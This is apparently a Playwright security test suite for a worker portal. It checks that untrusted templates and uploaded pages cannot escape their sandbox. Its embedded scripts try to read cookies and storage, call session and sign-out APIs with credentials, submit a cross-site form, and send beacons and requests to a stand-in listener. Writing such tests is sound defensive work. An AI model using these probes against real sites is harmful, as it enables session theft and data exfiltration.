import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { DeletePublicAccessBlockCommand, PutBucketPolicyCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser } from '../support/browser.js';
import { imageTemplate } from '../support/lab.js';
import { ana, bucket, PortalLab } from '../support/portalLab.js';
import { label, openPortal, pick, progressIs, signInInvited, startWorking } from '../support/portalPages.js';

/** Code that is somebody else's, in reach of a worker who is signed in. */
describe("other people's code beside the portal in a browser", () => {
  let browser: Browser;
  let lab: PortalLab;
  let listener: Server;
  let listening: string;
  let reached: string[];
  before(async () => {
    browser = await launchBrowser();
    listener = createServer((request, response) => {
      reached.push(request.url ?? '');
      response.end();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    listening = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/`;
  });
  beforeEach(() => {
    reached = [];
  });
  afterEach(async () => lab.server.stop());
  after(async () => {
    await browser.close();
    listener.closeAllConnections();
    await new Promise((resolve) => listener.close(resolve));
  });

  it('is kept, as a template, from the network, the page, the portal and what the browser stores', async () => {
    const script = `
      const found = [];
      const tries = {
        parent: () => parent.document.title,
        top: () => top.location.href,
        vscode: () => acquireVsCodeApi(),
        storage: () => localStorage.length,
        cookie: () => document.cookie,
      };
      for (const [name, run] of Object.entries(tries)) {
        try { run(); found.push(name); } catch {}
      }
      parent.postMessage({ kind: 'event', event: 'view.changed', data: { kind: 'restricted' } }, '*');
      const own = location.href.split('/_local/')[0];
      const headers = { 'x-portal-worker': 'nobody', 'content-type': 'application/json' };
      const asks = ['${listening}fetch', own + '/_local/portal/api/session', own + '/${bucket}/0.jpg'];
      for (const element of ['img', 'script', 'iframe', 'audio', 'embed']) {
        document.body.append(Object.assign(document.createElement(element), { src: '${listening}' + element }));
      }
      document.body.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${listening}link' }));
      navigator.sendBeacon('${listening}beacon');
      try { new WebSocket('${listening.replace('http', 'ws')}socket'); } catch {}
      Promise.allSettled(asks.map((url) => fetch(url, { headers, credentials: 'include' }))).then((settled) => {
        found.push(...settled.flatMap(({ status }, index) => (status === 'fulfilled' ? [asks[index]] : [])));
        document.title = 'found:' + found.join();
      });`;
    lab = await PortalLab.start({ pictures: 1, template: `${imageTemplate}<script>${script}</script>` });
    const { page, close } = await working();
    await pick(page, '1');
    const frame = page.frames().find((each) => each.parentFrame() === page.mainFrame());
    await frame?.waitForFunction(() => document.title.startsWith('found:'));
    assert.equal(await frame?.title(), 'found:');
    assert.deepEqual(reached, []);
    assert.equal(await page.getByText('This workspace is restricted').count(), 0);
    await close();
  });

  const ways = [
    { name: 'the network', address: () => `${listening}navigated` },
    { name: 'an uploaded page', address: () => `/${bucket}/public.html` },
    { name: 'the portal', address: () => '/_local/portal' },
  ];
  for (const { name, address } of ways) {
    it(`cannot send its frame, as a template, to ${name}`, async () => {
      const go = `location.href = '${address()}?{{ task.input.taskObject }}'`;
      const script = `onload = () => setTimeout(() => { ${go}; })`;
      lab = await PortalLab.start({ pictures: 1, template: `${imageTemplate}<script>${script}</script>` });
      await uploadPage(`<script>fetch('${listening}uploaded').catch(() => undefined);</script>`);
      const { page, close } = await working();
      await page.getByText("The job's template does not work").waitFor();
      assert.deepEqual(reached, []);
      assert.equal(page.frames().filter((frame) => frame.url().includes('public.html')).length, 0);
      await close();
    });
  }

  it('cannot act as a worker, as a page that was uploaded', async () => {
    lab = await PortalLab.start({ pictures: 3 });
    const address = await uploadPage(`<script type="module">
      const found = [];
      const portal = location.origin === 'null' ? location.href.split('/${bucket}/')[0] + '/_local/portal' : '/_local/portal';
      const headers = { 'x-portal-worker': 'nobody', 'content-type': 'application/json' };
      const attempt = async (name, run) => {
        try { if (await run()) found.push(name); } catch {}
      };
      await attempt('cookie', () => document.cookie !== '');
      await attempt('storage', () => localStorage.length >= 0);
      await attempt('session', async () => (await fetch(portal + '/api/session', { credentials: 'include', headers })).ok);
      await attempt('jobs', async () => (await fetch(portal + '/api/jobs', { credentials: 'include' })).ok);
      await attempt('blind', async () => {
        await fetch(portal + '/api/sign-out', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' });
      });
      await attempt('worker', () => navigator.serviceWorker.register('/${bucket}/worker.js', { scope: '/' }));
      await attempt('window', () => window.open(portal));
      const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { src: portal }));
      await new Promise((resolve) => frame.addEventListener('load', resolve));
      await attempt('frame', () => frame.contentDocument.title);
      const form = document.body.appendChild(document.createElement('form'));
      Object.assign(form, { method: 'post', action: portal + '/api/sign-out', enctype: 'text/plain', target: 'x' });
      await attempt('form', () => form.submit());
      document.title = 'found:' + found.join();
    </script>`);
    const { page, close } = await working();
    await label(page, 0, ['1']);
    await progressIs(page, 1);
    const before = await lab.counters();
    const uploaded = await page.context().newPage();
    await uploaded.goto(address);
    await uploaded.waitForFunction(() => document.title.startsWith('found:'));
    assert.equal(await uploaded.title(), 'found:');
    assert.equal(page.context().pages().length, 2);
    assert.deepEqual(await lab.counters(), before);
    await label(page, 1, ['2']); // Still signed in, and nobody has answered meanwhile.
    await progressIs(page, 2);
    await close();
  });

  async function working(): Promise<{ page: Page; close: () => Promise<void> }> {
    const opened = await openPortal(browser, lab.server.portal);
    await signInInvited(opened.page, ana, await lab.invitation(ana));
    await startWorking(opened.page);
    return opened;
  }

  /** Resolves to the address at which anybody can open it. */
  async function uploadPage(html: string): Promise<string> {
    const { s3 } = lab.clients;
    const Statement = { Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: `arn:aws:s3:::${bucket}/*` };
    const Policy = JSON.stringify({ Version: '2012-10-17', Statement });
    await s3.send(new PutObjectCommand({ Bucket: bucket, Key: 'public.html', Body: html, ContentType: 'text/html' }));
    await s3.send(new DeletePublicAccessBlockCommand({ Bucket: bucket }));
    await s3.send(new PutBucketPolicyCommand({ Bucket: bucket, Policy }));
    return `${lab.server.endpoint}/${bucket}/public.html`;
  }
});
